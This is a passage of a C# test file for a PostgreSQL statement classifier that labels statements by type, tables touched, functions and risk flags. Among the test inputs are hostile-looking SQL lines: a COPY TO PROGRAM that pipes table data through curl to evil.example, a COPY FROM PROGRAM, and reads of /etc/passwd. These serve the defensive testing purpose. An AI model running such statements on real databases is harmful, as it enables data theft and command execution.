using System.Buffers;
using System.Text;
using Appliance.Protocols.Postgres.Sql;

namespace Appliance.Protocols.Tests.Sql;

/// <summary>
/// Table-driven classification: each row is a statement and the expected class, tables read (r),
/// tables written (w), functions (f, attribute notation as .name), flags, and where given the inner
/// class, the name and the effects. See <see cref="SqlDescription.AssertMatches"/>.
/// </summary>
public sealed class SqlClassifierTests
{
    private static void Check(string sql, string expected, SqlLexerOptions options = default) =>
        SqlDescription.AssertMatches(expected, SqlDescription.Describe(sql, options), sql);

    [Theory]
    [InlineData("SELECT 1", "Select | effects: Select")]
    [InlineData("select * from t", "Select | r: t | effects: Select")]
    [InlineData("SELECT a, b FROM public.users u WHERE u.id = 1", "Select | r: public.users")]
    [InlineData("SeLeCt * FrOm Public.Users", "Select | r: public.users")]
    [InlineData("SELECT * FROM \"Public\".\"Weird Name\"", "Select | r: Public.Weird Name")]
    [InlineData("SELECT * FROM \"a.b\"", "Select | r: \"a.b\"")]
    [InlineData("SELECT * FROM a, b AS x, c y", "Select | r: a, b, c")]
    [InlineData("SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c USING (id) FULL OUTER JOIN d ON true", "Select | r: a, b, c, d")]
    [InlineData("SELECT * FROM a NATURAL JOIN b CROSS JOIN c", "Select | r: a, b, c")]
    [InlineData("SELECT * FROM a JOIN b JOIN c ON b.x = c.x ON a.y = b.y", "Select | r: a, b, c")]
    [InlineData("SELECT * FROM (a JOIN b ON true) JOIN c ON true", "Select | r: a, b, c")]
    [InlineData("SELECT * FROM ONLY parent", "Select | r: parent")]
    [InlineData("SELECT * FROM ONLY (parent) p", "Select | r: parent")]
    [InlineData("SELECT * FROM parent *", "Select | r: parent")]
    [InlineData("SELECT * FROM t TABLESAMPLE bernoulli (10) REPEATABLE (42)", "Select | r: t")]
    [InlineData("SELECT * FROM db.s.t", "Select | r: s.t")]
    [InlineData("SELECT * FROM t1 x(a, b) JOIN t2 AS y(c) ON x.a = y.c", "Select | r: t1, t2")]
    [InlineData("SELECT * FROM generate_series(1, 3) AS g(i)", "Select | f: generate_series | effects: Select")]
    [InlineData("SELECT * FROM ROWS FROM (generate_series(1, 2), unnest(ARRAY[1])) WITH ORDINALITY AS r(a, b, n)", "Select | f: generate_series, unnest")]
    [InlineData("SELECT * FROM unnest(ARRAY[1, 2]) WITH ORDINALITY u(v, n), t", "Select | r: t | f: unnest")]
    [InlineData("SELECT * FROM json_to_record('{}') AS x(a int, b varchar(10))", "Select | f: json_to_record")]
    [InlineData("SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t_id = t.id) x", "Select | r: t, u")]
    [InlineData("SELECT * FROM t CROSS JOIN LATERAL generate_series(1, t.n) g", "Select | r: t | f: generate_series")]
    [InlineData("SELECT * FROM (SELECT * FROM (SELECT * FROM deep) a) b", "Select | r: deep")]
    [InlineData("SELECT * FROM ((SELECT 1) UNION (SELECT a FROM t)) s", "Select | r: t")]
    [InlineData("SELECT * FROM ((SELECT * FROM a) x JOIN b ON true)", "Select | r: a, b")]
    [InlineData("SELECT (SELECT max(id) FROM t2) AS m FROM t1", "Select | r: t1, t2 | f: max")]
    [InlineData("SELECT * FROM t WHERE id IN (SELECT id FROM u) AND EXISTS (SELECT 1 FROM v) OR x = ANY (SELECT y FROM w)", "Select | r: t, u, v, w")]
    [InlineData("SELECT ARRAY(SELECT a FROM t)", "Select | r: t")]
    [InlineData("SELECT 1 UNION SELECT a FROM t EXCEPT (SELECT b FROM u) ORDER BY 1 LIMIT 5 OFFSET 1", "Select | r: t, u")]
    [InlineData("(SELECT * FROM a) UNION ALL (SELECT * FROM b) ORDER BY 1", "Select | r: a, b")]
    [InlineData("SELECT * FROM t ORDER BY a FETCH FIRST 5 ROWS WITH TIES", "Select | r: t")]
    [InlineData("SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b DESC", "Select | r: t")]
    [InlineData("SELECT a, count(*) FROM t GROUP BY ROLLUP (a) HAVING count(*) > (SELECT 1 FROM u) WINDOW w AS (PARTITION BY a)", "Select | r: t, u | f: count, count, rollup")]
    [InlineData("VALUES (1, 'a'), (2, 'b')", "Select | effects: Select")]
    [InlineData("TABLE secret", "Select | r: secret")]
    [InlineData("TABLE ONLY s.t", "Select | r: s.t")]
    [InlineData("SELECT * FROM (VALUES (1), (2)) v(x)", "Select")]
    [InlineData("SELECT * FROM (TABLE hidden) x", "Select | r: hidden")]
    [InlineData("SELECT * FROM t WHERE x = $1 AND y = $2", "Select | r: t")]
    [InlineData("SELECT FROM t", "Select | r: t")]
    public void Classify_Select_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("WITH c AS (SELECT * FROM src) SELECT * FROM c", "Select | r: src")]
    [InlineData("WITH c AS (SELECT 1) SELECT * FROM c, public.c", "Select | r: public.c")]
    [InlineData("WITH \"C\" AS (SELECT 1) SELECT * FROM c", "Select | r: c")]
    [InlineData("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", "Select | r: b")]
    [InlineData("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r", "Select")]
    [InlineData("WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "Select")]
    [InlineData("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) SEARCH DEPTH FIRST BY n SET ord SELECT * FROM t", "Select")]
    [InlineData("WITH RECURSIVE g AS (SELECT id FROM graph) CYCLE id SET is_cycle USING path SELECT * FROM g", "Select | r: graph")]
    [InlineData("WITH x AS MATERIALIZED (SELECT * FROM t), y AS NOT MATERIALIZED (SELECT * FROM u) SELECT * FROM x, y", "Select | r: t, u")]
    [InlineData("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x", "Select | r: x")]
    [InlineData("WITH x AS (SELECT 1) SELECT * FROM (SELECT * FROM x) s", "Select")]
    [InlineData("WITH t AS (SELECT 1) DELETE FROM t", "Delete | w: t | effects: Delete")]
    [InlineData("WITH s AS (SELECT * FROM src) UPDATE t SET a = s.a FROM s", "Update | r: src | w: t | effects: Select, Update")]
    [InlineData("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "Delete | w: t | flags: WritingCte | effects: Delete")]
    [InlineData("WITH d AS (DELETE FROM t RETURNING *) INSERT INTO archive SELECT * FROM d", "Delete | w: archive, t | flags: WritingCte | effects: Delete, Insert")]
    [InlineData("WITH u AS (UPDATE t SET a = 1 RETURNING *), i AS (INSERT INTO l VALUES (1) RETURNING *) SELECT * FROM u, i", "Update | w: l, t | flags: WritingCte | effects: Insert, Update")]
    [InlineData("WITH m AS (MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m", "Merge | r: s | w: t | flags: WritingCte | effects: Merge, Select")]
    [InlineData("WITH x AS (SELECT * FROM t FOR UPDATE) SELECT * FROM x", "Lock | r: t | effects: Lock, Select")]
    public void Classify_With_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("SELECT 1 case FROM secret", "Select | r: secret")]
    [InlineData("SELECT 1 end, 2 when FROM secret", "Select | r: secret")]
    [InlineData("SELECT CASE WHEN a THEN 1 ELSE 2 END FROM t", "Select | r: t")]
    [InlineData("SELECT a IS DISTINCT FROM b FROM t", "Select | r: t")]
    [InlineData("SELECT a IS NOT DISTINCT FROM b FROM t", "Select | r: t")]
    [InlineData("SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY x) FROM t GROUP BY y", "Select | r: t | f: percentile_cont")]
    [InlineData("SELECT count(*) FILTER (WHERE x > 0) OVER (PARTITION BY y ORDER BY z) FROM t", "Select | r: t | f: count")]
    [InlineData("SELECT x::timestamp with time zone, y::varchar(10), CAST(z AS numeric(10,2)), w::double precision[] FROM t", "Select | r: t")]
    [InlineData("SELECT timestamp with time zone '2020-01-01', interval '1' day FROM t", "Select | r: t")]
    [InlineData("SELECT EXTRACT(year FROM d), SUBSTRING(s FROM 2 FOR 3), TRIM(BOTH ' ' FROM s) FROM t", "Select | r: t | f: extract, substring, trim")]
    [InlineData("SELECT COALESCE(a, b), NULLIF(c, d), GREATEST(1, 2), LEAST(3, 4) FROM t", "Select | r: t | f: coalesce, greatest, least, nullif")]
    [InlineData("SELECT left(name, 2), right(name, 1) FROM t", "Select | r: t | f: left, right")]
    [InlineData("SELECT COLLATION FOR ('foo')", "Select")]
    [InlineData("SELECT 1 FROM t WHERE a LIKE 'x%' ESCAPE '!' AND b SIMILAR TO 'y'", "Select | r: t")]
    [InlineData("SELECT /* ; DROP TABLE x */ 1", "Select")]
    [InlineData("SELECT 1 -- ; DELETE FROM t\n", "Select")]
    [InlineData("SELECT /* a /* nested ; */ still a comment; FROM x */ 1", "Select")]
    [InlineData("SELECT 'DROP TABLE t; SELECT' FROM t1", "Select | r: t1")]
    [InlineData("SELECT $$ ; DELETE FROM t $$, $a$ $$ ; $a$ FROM t1", "Select | r: t1")]
    [InlineData("SELECT $q$DROP$q$ AS \"from\" FROM \"select\"", "Select | r: select")]
    [InlineData("SELECT 'a' -- comment\n'; DELETE FROM t; ' FROM t1", "Select | r: t1")]
    [InlineData("SELECT * FROM pg_catalog.select", "Select | r: pg_catalog.select")]
    [InlineData("SELECT 1from t", "Select | r: t")]
    [InlineData("SELECT a$b, $1 FROM t", "Select | r: t")]
    [InlineData("SELECT * FROM t WHERE a = ANY(ARRAY[1,2]) AND b @> '{}'::jsonb", "Select | r: t")]
    [InlineData("SELECT t.* FROM t", "Select | r: t")]
    [InlineData("SELECT c.oid FROM pg_catalog.pg_class c WHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid)", "Select | r: pg_catalog.pg_class | f: pg_catalog.pg_table_is_visible")]
    public void Classify_Traps_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("SELECT * FROM t WHERE x = (TABLE secret)", "Select | r: secret, t")]
    [InlineData("SELECT (TABLE secret)", "Select | r: secret")]
    [InlineData("SELECT * FROM xmltable('/a' PASSING (SELECT doc FROM secret) COLUMNS a int PATH 'a')", "Select | r: secret | f: xmltable")]
    [InlineData("SELECT 1 FROM t GROUP BY GROUPING SETS ((a), ((SELECT 1 FROM secret)))", "Select | r: secret, t")]
    [InlineData("SELECT * FROM t ORDER BY a USING < LIMIT (SELECT 1 FROM secret)", "Select | r: secret, t")]
    [InlineData("SELECT * FROM t1 JOIN (secret JOIN other ON true) ON true", "Select | r: other, secret, t1")]
    [InlineData("SELECT * FROM t1 NATURAL LEFT OUTER JOIN secret", "Select | r: secret, t1")]
    [InlineData("SELECT * FROM public . /* x */ secret", "Select | r: public.secret")]
    [InlineData("SELECT * FROM t1 LEFT JOIN LATERAL (SELECT * FROM secret) s ON true", "Select | r: secret, t1")]
    [InlineData("SELECT * FROM t TABLESAMPLE SYSTEM (1), secret", "Select | r: secret, t")]
    [InlineData("SELECT ARRAY[(SELECT 1 FROM secret)]", "Select | r: secret")]
    [InlineData("INSERT INTO t (arr[(SELECT 1 FROM secret)]) VALUES (1)", "Insert | r: secret | w: t")]
    [InlineData("INSERT INTO t SELECT * FROM secret WHERE true RETURNING (SELECT 1 FROM other)", "Insert | r: other, secret | w: t")]
    [InlineData("MERGE INTO t USING secret ON true WHEN NOT MATCHED THEN INSERT VALUES ((SELECT 1 FROM other))", "Merge | r: other, secret | w: t")]
    [InlineData("WITH x AS (SELECT 1) SELECT * FROM x UNION SELECT * FROM secret", "Select | r: secret")]
    [InlineData("WITH RECURSIVE secret AS (SELECT 1) SELECT * FROM secret", "Select")]
    [InlineData("WITH secret AS (SELECT * FROM secret) SELECT * FROM secret", "Select | r: secret")]
    [InlineData("WITH a AS (SELECT 1), b AS (SELECT * FROM a, secret) SELECT * FROM b", "Select | r: secret")]
    [InlineData("COPY (WITH x AS (SELECT * FROM secret) SELECT * FROM x) TO STDOUT", "CopyOut | r: secret")]
    [InlineData("SELECT * FROM t1 left_alias JOIN secret ON true", "Select | r: secret, t1")]
    [InlineData("SELECT * FROM t1 \"LEFT\" JOIN secret ON true", "Select | r: secret, t1")]
    [InlineData("SELECT * FROM t1 JOIN secret ON left(a, 1) = 'x' JOIN other ON true", "Select | r: other, secret, t1 | f: left")]
    [InlineData("SELECT * FROM t1 JOIN t2 ON a = b, secret", "Select | r: secret, t1, t2")]
    [InlineData("TABLE t UNION TABLE secret", "Select | r: secret, t")]
    [InlineData("SELECT * FROM t WHERE x IN (VALUES (1), ((SELECT 1 FROM secret)))", "Select | r: secret, t")]
    [InlineData("SELECT * FROM t1 UNION ALL (SELECT * FROM t2 UNION SELECT * FROM secret)", "Select | r: secret, t1, t2")]
    [InlineData("SELECT DISTINCT ON ((SELECT 1 FROM secret)) a FROM t", "Select | r: secret, t")]
    [InlineData("SELECT sum(x) OVER w FROM t WINDOW w AS (ORDER BY (SELECT 1 FROM secret))", "Select | r: secret, t | f: sum")]
    [InlineData("SELECT * FROM t OFFSET (SELECT 1 FROM secret) ROWS FETCH NEXT 1 ROW ONLY", "Select | r: secret, t")]
    [InlineData("select*from secret", "Select | r: secret")]
    [InlineData("SELECT\"a\"FROM\"secret\"", "Select | r: secret")]
    [InlineData("SELECT 1e FROM secret", "Select | r: secret")]
    [InlineData("SELECT $1FROM secret", "Select | r: secret")]
    [InlineData("SELECT a collation FROM secret", "Select | r: secret")]
    [InlineData("SELECT * FROM t1, (t2 CROSS JOIN secret)", "Select | r: secret, t1, t2")]
    [InlineData("SELECT * FROM t1 JOIN t2 USING (a) AS j JOIN secret USING (b)", "Select | r: secret, t1, t2")]
    [InlineData("SELECT * FROM t WHERE EXISTS (SELECT FROM secret)", "Select | r: secret, t")]
    [InlineData("SELECT * FROM t WHERE a = (SELECT a FROM secret FOR UPDATE)", "Lock | r: secret, t")]
    [InlineData("SELECT f(a => (SELECT 1 FROM secret)) FROM t", "Select | r: secret, t | f: f")]
    [InlineData("SELECT * FROM t1 INTERSECT ALL SELECT * FROM secret EXCEPT DISTINCT SELECT * FROM other", "Select | r: other, secret, t1")]
    public void Classify_HiddenTables_AllFound(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("SELECT pg_catalog.pg_read_file('/etc/passwd')", "Select | f: pg_catalog.pg_read_file")]
    [InlineData("SELECT ('/etc/passwd'::text).pg_read_file", "Select | f: .pg_read_file")]
    [InlineData("SELECT ($1::text).lo_import", "Select | f: .lo_import")]
    [InlineData("SELECT $1.lo_export FROM t", "Select | r: t | f: .lo_export")]
    [InlineData("SELECT \"lo_import\"('/etc/passwd')", "Select | f: lo_import")]
    [InlineData("SELECT set_config('role', 'admin', false)", "Select | f: set_config")]
    [InlineData("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", "Select | f: dblink")]
    [InlineData("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "Select | r: pg_stat_activity | f: pg_terminate_backend")]
    [InlineData("SELECT lower(upper(x)) FROM t", "Select | r: t | f: lower, upper")]
    [InlineData("SELECT * FROM U&\"d\\0061ta\"", "Select | r: d\\0061ta | flags: FunctionsIncomplete, TablesIncomplete")]
    [InlineData("SELECT * FROM U&\"d!0061ta\" UESCAPE '!'", "Select | r: d!0061ta | flags: FunctionsIncomplete, TablesIncomplete")]
    [InlineData("SELECT * FROM U&\"plain\"", "Select | r: plain")]
    public void Classify_Functions_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("SELECT * FROM t FOR UPDATE", "Lock | r: t | effects: Lock, Select")]
    [InlineData("SELECT * FROM t FOR NO KEY UPDATE OF t SKIP LOCKED", "Lock | r: t")]
    [InlineData("SELECT * FROM t FOR KEY SHARE NOWAIT", "Lock | r: t")]
    [InlineData("SELECT * FROM t LIMIT 1 FOR SHARE", "Lock | r: t")]
    [InlineData("SELECT * FROM t FOR READ ONLY", "Select | r: t")]
    [InlineData("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", "Lock | r: t")]
    [InlineData("SELECT * INTO new_t FROM t", "Ddl | r: t | w: new_t | flags: SelectInto | effects: Ddl, Select")]
    [InlineData("SELECT a, b INTO TEMP TABLE tmp FROM t WHERE a > 1", "Ddl | r: t | w: tmp | flags: SelectInto")]
    [InlineData("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "Lock | w: t | effects: Lock")]
    [InlineData("LOCK a, ONLY s.b NOWAIT", "Lock | w: a, s.b")]
    public void Classify_LockAndInto_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("INSERT INTO t (a, b) VALUES (1, 2)", "Insert | w: t | effects: Insert")]
    [InlineData("INSERT INTO s.t SELECT * FROM u", "Insert | r: u | w: s.t | effects: Insert, Select")]
    [InlineData("INSERT INTO t VALUES ((SELECT max(x) FROM u))", "Insert | r: u | w: t | f: max")]
    [InlineData("INSERT INTO t AS x (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a + (SELECT 1 FROM u) RETURNING *", "Insert | r: u | w: t")]
    [InlineData("INSERT INTO t (a) VALUES (1) ON CONFLICT ON CONSTRAINT t_pkey DO NOTHING", "Insert | w: t")]
    [InlineData("INSERT INTO t (a) VALUES (1) ON CONFLICT (lower(a)) WHERE a IS NOT NULL DO UPDATE SET (a, b) = (1, 2) WHERE t.c", "Insert | w: t | f: lower")]
    [InlineData("INSERT INTO t DEFAULT VALUES RETURNING id", "Insert | w: t")]
    [InlineData("INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING", "Insert | r: u | w: t")]
    [InlineData("INSERT INTO t (SELECT * FROM u)", "Insert | r: u | w: t")]
    [InlineData("INSERT INTO t TABLE u", "Insert | r: u | w: t")]
    [InlineData("INSERT INTO t OVERRIDING SYSTEM VALUE VALUES (1)", "Insert | w: t")]
    [InlineData("INSERT INTO t (values) VALUES (1)", "Insert | w: t")]
    [InlineData("UPDATE t SET a = 1 WHERE id = 2", "Update | w: t | effects: Update")]
    [InlineData("UPDATE ONLY s.t AS x SET a = y.b FROM y WHERE x.id = y.id RETURNING x.*", "Update | r: y | w: s.t")]
    [InlineData("UPDATE t SET (a, b) = (SELECT c, d FROM u WHERE u.id = t.id)", "Update | r: u | w: t")]
    [InlineData("UPDATE t AS set SET a = 1", "Update | w: t")]
    [InlineData("UPDATE t x SET a = DEFAULT WHERE CURRENT OF c", "Update | w: t")]
    [InlineData("UPDATE t SET a = CASE WHEN b THEN 1 END FROM u JOIN v ON u.id = v.id WHERE t.id = u.id", "Update | r: u, v | w: t")]
    [InlineData("DELETE FROM t WHERE id = 1", "Delete | w: t | effects: Delete")]
    [InlineData("DELETE FROM ONLY t AS x USING u, v WHERE x.id = u.id RETURNING x.id", "Delete | r: u, v | w: t")]
    [InlineData("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)", "Merge | r: s | w: t | effects: Merge, Select")]
    [InlineData("MERGE INTO t AS tt USING (SELECT * FROM src) AS s ON tt.id = s.id WHEN MATCHED AND CASE WHEN s.x THEN true END THEN DELETE WHEN NOT MATCHED THEN DO NOTHING", "Merge | r: src | w: t")]
    public void Classify_Dml_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("EXPLAIN SELECT * FROM t", "Explain | r: t | inner: Select | effects: Explain")]
    [InlineData("EXPLAIN DELETE FROM t", "Explain | r: t | inner: Delete | effects: Explain")]
    [InlineData("EXPLAIN VERBOSE SELECT * FROM t", "Explain | r: t | inner: Select")]
    [InlineData("EXPLAIN ANALYZE DELETE FROM t", "Delete | w: t | flags: ExplainAnalyze | effects: Delete")]
    [InlineData("EXPLAIN ANALYSE SELECT 1", "Select | flags: ExplainAnalyze")]
    [InlineData("EXPLAIN ANALYZE VERBOSE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "Delete | w: t | flags: ExplainAnalyze, WritingCte")]
    [InlineData("EXPLAIN (ANALYZE) UPDATE t SET a = 1", "Update | w: t | flags: ExplainAnalyze")]
    [InlineData("EXPLAIN (ANALYZE true, BUFFERS) INSERT INTO t VALUES (1)", "Insert | w: t | flags: ExplainAnalyze")]
    [InlineData("EXPLAIN (FORMAT json, ANALYZE on) DELETE FROM t", "Delete | w: t | flags: ExplainAnalyze")]
    [InlineData("EXPLAIN (ANALYZE 1) DELETE FROM t", "Delete | w: t | flags: ExplainAnalyze")]
    [InlineData("EXPLAIN (ANALYZE 'on') DELETE FROM t", "Delete | w: t | flags: ExplainAnalyze")]
    [InlineData("EXPLAIN (ANALYZE maybe) DELETE FROM t", "Delete | w: t | flags: ExplainAnalyze")]
    [InlineData("EXPLAIN (ANALYZE off) DELETE FROM t", "Explain | r: t | inner: Delete")]
    [InlineData("EXPLAIN (ANALYZE false, VERBOSE) DELETE FROM t", "Explain | r: t | inner: Delete")]
    [InlineData("EXPLAIN (ANALYZE 0, COSTS off) DELETE FROM t", "Explain | r: t | inner: Delete")]
    [InlineData("EXPLAIN (ANALYZE 'FALSE') DELETE FROM t", "Explain | r: t | inner: Delete")]
    [InlineData("EXPLAIN ANALYZE EXECUTE p (1)", "Execute | flags: ExecutesPrepared, ExplainAnalyze | name: p")]
    [InlineData("EXPLAIN EXECUTE p", "Explain | inner: Execute | name: p")]
    [InlineData("EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t", "Ddl | r: t | w: x | flags: ExplainAnalyze")]
    public void Classify_Explain_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("COPY t FROM STDIN", "CopyIn | w: t | effects: CopyIn")]
    [InlineData("COPY t (a, b) FROM STDIN WITH (FORMAT csv, HEADER true)", "CopyIn | w: t")]
    [InlineData("COPY BINARY t FROM STDIN", "CopyIn | w: t")]
    [InlineData("COPY s.t TO STDOUT", "CopyOut | r: s.t | effects: CopyOut, Select")]
    [InlineData("COPY (SELECT * FROM t JOIN u USING (id)) TO STDOUT WITH CSV HEADER", "CopyOut | r: t, u")]
    [InlineData("COPY t TO PROGRAM 'curl -d @- evil.example'", "CopyOut | r: t | flags: CopyProgram")]
    [InlineData("COPY t FROM PROGRAM 'id'", "CopyIn | w: t | flags: CopyProgram")]
    [InlineData("COPY t FROM '/etc/passwd'", "CopyIn | w: t | flags: CopyServerFile")]
    [InlineData("COPY (SELECT 1) TO '/tmp/x'", "CopyOut | flags: CopyServerFile")]
    [InlineData("COPY (DELETE FROM t RETURNING *) TO STDOUT", "Delete | w: t | effects: CopyOut, Delete")]
    [InlineData("COPY t FROM STDIN WHERE a > (SELECT 1)", "CopyIn | w: t")]
    public void Classify_Copy_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("BEGIN", "Transaction | effects: Transaction")]
    [InlineData("BEGIN ISOLATION LEVEL SERIALIZABLE", "Transaction")]
    [InlineData("START TRANSACTION READ ONLY", "Transaction")]
    [InlineData("COMMIT", "Transaction")]
    [InlineData("END", "Transaction")]
    [InlineData("ABORT", "Transaction")]
    [InlineData("ROLLBACK TO SAVEPOINT s", "Transaction")]
    [InlineData("SAVEPOINT s", "Transaction")]
    [InlineData("RELEASE SAVEPOINT s", "Transaction")]
    [InlineData("PREPARE TRANSACTION 'gid'", "Transaction")]
    [InlineData("COMMIT PREPARED 'gid'", "Transaction")]
    [InlineData("ROLLBACK PREPARED 'gid'", "Transaction")]
    [InlineData("SET TRANSACTION ISOLATION LEVEL READ COMMITTED", "Transaction")]
    [InlineData("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "Transaction")]
    [InlineData("SET CONSTRAINTS ALL DEFERRED", "Transaction")]
    public void Classify_Transaction_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("SET statement_timeout = 0", "Session | effects: Session")]
    [InlineData("SET LOCAL work_mem TO '64MB'", "Session")]
    [InlineData("SET SESSION application_name = 'ci'", "Session")]
    [InlineData("SET TIME ZONE 'UTC'", "Session")]
    [InlineData("SET myapp.tenant = 42", "Session")]
    [InlineData("SHOW search_path", "Session")]
    [InlineData("RESET statement_timeout", "Session")]
    [InlineData("DISCARD PLANS", "Session")]
    [InlineData("LISTEN ch", "Session")]
    [InlineData("UNLISTEN *", "Session")]
    [InlineData("NOTIFY ch, 'payload'", "Session")]
    [InlineData("SET search_path = public, app", "Session | flags: SetsSearchPath")]
    [InlineData("SET \"search_path\" TO DEFAULT", "Session | flags: SetsSearchPath")]
    [InlineData("SET \"Search_Path\" = foo", "Session | flags: SetsSearchPath")]
    [InlineData("RESET \"STANDARD_CONFORMING_STRINGS\"", "Session | flags: SetsLexerSetting")]
    [InlineData("SET \"ROLE\" = postgres", "Privilege")]
    [InlineData("SET SCHEMA 'app'", "Session | flags: SetsSearchPath")]
    [InlineData("RESET search_path", "Session | flags: SetsSearchPath")]
    [InlineData("SET standard_conforming_strings = off", "Session | flags: SetsLexerSetting")]
    [InlineData("SET LOCAL client_encoding TO 'SJIS'", "Session | flags: SetsLexerSetting")]
    [InlineData("SET NAMES 'LATIN1'", "Session | flags: SetsLexerSetting")]
    [InlineData("DEALLOCATE p", "Session | flags: Deallocate | name: p")]
    [InlineData("DEALLOCATE PREPARE ALL", "Session | flags: AllNames, Deallocate")]
    [InlineData("SET ROLE admin", "Privilege | effects: Privilege")]
    [InlineData("SET LOCAL ROLE admin", "Privilege")]
    [InlineData("SET SESSION AUTHORIZATION 'u'", "Privilege")]
    [InlineData("SET LOCAL SESSION AUTHORIZATION u", "Privilege")]
    [InlineData("SET SESSION SESSION AUTHORIZATION DEFAULT", "Privilege")]
    [InlineData("SET SESSION ROLE NONE", "Privilege")]
    [InlineData("SET role = 'admin'", "Privilege")]
    [InlineData("SET \"role\" TO admin", "Privilege")]
    [InlineData("SET session_authorization = u", "Privilege")]
    [InlineData("RESET ROLE", "Privilege")]
    [InlineData("RESET SESSION AUTHORIZATION", "Privilege")]
    [InlineData("RESET ALL", "Privilege | flags: SetsLexerSetting, SetsSearchPath")]
    [InlineData("DISCARD ALL", "Privilege | flags: AllNames, Deallocate, SetsLexerSetting, SetsSearchPath")]
    public void Classify_SessionAndPrivilege_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("CALL do_stuff(1, lower('X'))", "Call | f: do_stuff, lower | effects: Call")]
    [InlineData("CALL s.proc()", "Call | f: s.proc")]
    [InlineData("DO $$BEGIN DELETE FROM t; END$$", "Do | flags: FunctionsIncomplete, TablesIncomplete | effects: Do")]
    [InlineData("DO LANGUAGE plpgsql 'BEGIN NULL; END'", "Do | flags: FunctionsIncomplete, TablesIncomplete")]
    [InlineData("PREPARE p (int) AS SELECT * FROM t WHERE id = $1", "Prepare | r: t | inner: Select | name: p | effects: Prepare")]
    [InlineData("PREPARE q AS DELETE FROM t WHERE id = $1", "Prepare | w: t | inner: Delete | name: q | effects: Prepare")]
    [InlineData("PREPARE transaction AS SELECT 1", "Prepare | inner: Select | name: transaction")]
    [InlineData("EXECUTE p (1)", "Execute | flags: ExecutesPrepared | name: p | effects: Execute")]
    [InlineData("EXECUTE p (lo_import('/etc/passwd'))", "Execute | f: lo_import | flags: ExecutesPrepared | name: p")]
    [InlineData("DECLARE c CURSOR FOR SELECT * FROM t", "Select | r: t | flags: CursorDeclaration | name: c")]
    [InlineData("DECLARE c BINARY INSENSITIVE NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM t FOR UPDATE", "Lock | r: t | flags: CursorDeclaration | name: c")]
    [InlineData("FETCH FORWARD 10 FROM c", "Fetch | name: c | effects: Fetch")]
    [InlineData("MOVE ABSOLUTE 5 IN \"Cur\"", "Fetch | name: Cur")]
    [InlineData("CLOSE c", "Fetch | name: c")]
    [InlineData("CLOSE ALL", "Fetch | flags: AllNames")]
    public void Classify_CallPrepareCursor_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("VACUUM", "Maintenance | flags: TablesIncomplete")]
    [InlineData("VACUUM (VERBOSE, ANALYZE) t", "Maintenance | w: t")]
    [InlineData("VACUUM FULL FREEZE t, s.u", "Maintenance | w: s.u, t")]
    [InlineData("ANALYZE t (a, b)", "Maintenance | w: t")]
    [InlineData("CLUSTER t USING t_idx", "Maintenance | w: t")]
    [InlineData("CLUSTER", "Maintenance | flags: TablesIncomplete")]
    [InlineData("REINDEX TABLE CONCURRENTLY t", "Maintenance | w: t")]
    [InlineData("REINDEX DATABASE db", "Maintenance | flags: TablesIncomplete")]
    [InlineData("CHECKPOINT", "Maintenance | flags: TablesIncomplete")]
    [InlineData("REFRESH MATERIALIZED VIEW CONCURRENTLY mv WITH DATA", "Maintenance | w: mv")]
    public void Classify_Maintenance_MatchesExpectation(string sql, string expected) => Check(sql, expected);

    [Theory]
    [InlineData("CREATE TABLE t (id int PRIMARY KEY, u_id int REFERENCES u (id), n numeric(10, 2) DEFAULT 0)", "Ddl | r: u | w: t | effects: Ddl, Select")]
    [InlineData("CREATE TABLE IF NOT EXISTS s.t (LIKE s.template INCLUDING ALL)", "Ddl | r: s.template | w: s.t")]
    [InlineData("CREATE TABLE t AS SELECT * FROM u WITH NO DATA", "Ddl | r: u | w: t")]
    [InlineData("CREATE TABLE t (a, b) AS VALUES (1, 2)", "Ddl | w: t")]
    [InlineData("CREATE TEMP TABLE tmp AS TABLE u", "Ddl | r: u | w: tmp")]
    [InlineData("CREATE UNLOGGED TABLE p1 PARTITION OF p FOR VALUES FROM (1) TO (10)", "Ddl | r: p | w: p1")]
    [InlineData("CREATE TABLE c (x int CHECK (x > 0)) INHERITS (p1, p2)", "Ddl | r: p1, p2 | w: c")]
